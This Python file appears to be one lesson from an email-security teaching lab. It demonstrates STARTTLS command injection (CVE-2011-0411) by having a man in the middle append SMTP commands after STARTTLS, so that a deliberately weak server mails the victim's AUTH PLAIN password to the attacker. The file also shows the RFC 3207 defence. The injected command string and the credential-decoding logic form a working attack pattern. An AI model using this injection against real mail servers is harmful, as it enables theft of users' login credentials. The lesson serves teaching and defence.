"""Lesson: commands injected behind STARTTLS are run inside TLS."""

from __future__ import annotations

import base64
import re
from typing import Final

from emailsys.lab.attackers.middle import ManInTheMiddle, Tampered
from emailsys.lab.base.client import Client, plain
from emailsys.lab.base.lesson import Lesson, prose
from emailsys.lab.base.stage import ALICE, BOB, MALLORY, PASSWORDS, Stage, letter, until
from emailsys.lab.base.values import Result, Step
from emailsys.lab.base.view import View
from emailsys.lab.hosts.weak import WeakKeepsPlaintext
from emailsys.wiretap.conversation import Role

# One reply for each command that alice's program is going to send, so that it notices nothing.
_INJECTED: Final = f"MAIL FROM:<{MALLORY}>\r\nRCPT TO:<{MALLORY}>\r\nNOOP\r\nNOOP\r\nDATA\r\n".encode()
_AUTH: Final = re.compile(rb"AUTH PLAIN ([A-Za-z0-9+/=]+)")


def inject(from_client: bool, line: bytes) -> Tampered | None:
    """Adds commands behind STARTTLS, in the same segment."""
    if from_client and line.upper() == b"STARTTLS\r\n":
        return Tampered(line + _INJECTED, "added by the attacker")
    return None


def _trusting_program(stage: Stage, port: int) -> View:
    """Submits a message as alice, by a program that looks only at the first digit of each reply; returns its view."""
    view = View("submission", Role.CLIENT, f"127.0.0.1:{port}")
    with Client(port, view) as client:
        client.reply()
        client.ask("EHLO laptop.example.test")
        client.ask("STARTTLS")
        client.start_tls(stage.trusting)
        for command in (
            "EHLO laptop.example.test",
            f"AUTH PLAIN {plain(ALICE, PASSWORDS[ALICE])}",
            f"MAIL FROM:<{ALICE}>",
            f"RCPT TO:<{BOB}>",
            "DATA",
        ):
            client.ask(command)
        client.send(letter(ALICE, BOB, "Lunch", "At noon?") + b".\r\n")
        client.reply()
    return view


def _play(stage: Stage, is_protected: bool) -> Result:
    if is_protected:
        system = stage.system()
        before = len(stage.maildrop(system, MALLORY)), len(stage.maildrop(system, BOB))
        attacker = stage.open(ManInTheMiddle(system.ports["submission"], "submission", inject))
        alice = _trusting_program(stage, attacker.port)
        got = stage.maildrop(system, MALLORY)[before[0] :]
        bobs = len(stage.maildrop(system, BOB)) - before[1]
    else:
        weak = stage.open(WeakKeepsPlaintext(stage.pki.good))
        attacker = stage.open(ManInTheMiddle(weak.port, "submission", inject))
        alice = _trusting_program(stage, attacker.port)
        got = [one.octets for one in weak.stored if MALLORY in one.recipients]
        bobs = sum(BOB in one.recipients for one in weak.stored)
    view = attacker.views[0]
    until("the end of the connection", lambda: view.is_closed)
    stolen = _AUTH.search(b"".join(got))
    harmed = stolen is not None and PASSWORDS[ALICE].encode() in base64.b64decode(stolen[1])
    steps = [Step("What the man in the middle sees", _SEEN, [view.conversation()])]
    if harmed and stolen is not None:
        words = base64.b64decode(stolen[1]).split(b"\0")
        text = prose("""Inside TLS, the server runs the injected commands first. Their replies answer the commands of
            alice's program one by one, so that it notices nothing. What alice's program sends after DATA of the
            attacker, its login included, is the text of a message to mallory.""")
        evidence = f"a message to mallory has AUTH PLAIN of {words[1].decode()} with the password {words[2].decode()!r}"
    else:
        text = prose(f"""The daemon discards everything that came in the clear behind STARTTLS. Inside TLS, the replies
            are those to the commands of alice's program, and bob has {bobs} new message.""")
        evidence = f"mallory got {len(got)} messages; the octets behind STARTTLS were discarded"
    steps.append(Step("What alice's program sees inside TLS", text, [alice.conversation()]))
    return Result(steps, harmed, evidence)


_SEEN: Final = prose("""The attacker can't read what happens inside TLS. They add commands behind STARTTLS, before TLS
    begins, in the same segment.""")

LESSONS: Final = [
    Lesson(
        name="command-injection",
        title="Commands injected behind STARTTLS",
        order=40,
        minutes=20,
        question="Did the attacker get the password, although it was sent inside TLS?",
        without="a deliberately weak server of the lab, which keeps its input buffer when TLS begins",
        protection="the daemon, which discards what came before TLS",
        happens=prose("""Octets reach a server in segments, not in lines. If a segment has STARTTLS and further
            commands, these commands are in the clear, but the server may read them from its buffer only after TLS has
            begun."""),
        why=prose("""The weak server forgets where its input came from. It believes that everything that it reads after
            the handshake was protected by it. In 2011 this fault was found in Postfix and a dozen other servers
            (CVE-2011-0411), and in 2021 in many clients (NO STARTTLS)."""),
        protects=prose("""RFC 3207 says that both sides must discard all knowledge from before TLS. That includes
            octets that have already arrived. Implicit TLS has no such moment."""),
        real=prose("""The attacker, TLS and both logins are real. The daemon has no switch for this fault, so a small
            server of the lab has it. Alice's program looks only at the first digit of a reply, as some programs
            do."""),
        rfcs=("RFC 3207 §4.2", "RFC 2595 §4", "RFC 8314 §3"),
        ask=(
            "Why did the attacker inject NOOP twice?",
            "Which reply could have warned alice's program?",
            "Does the certificate help here? Who checks what, and when?",
        ),
        play=_play,
    )
]
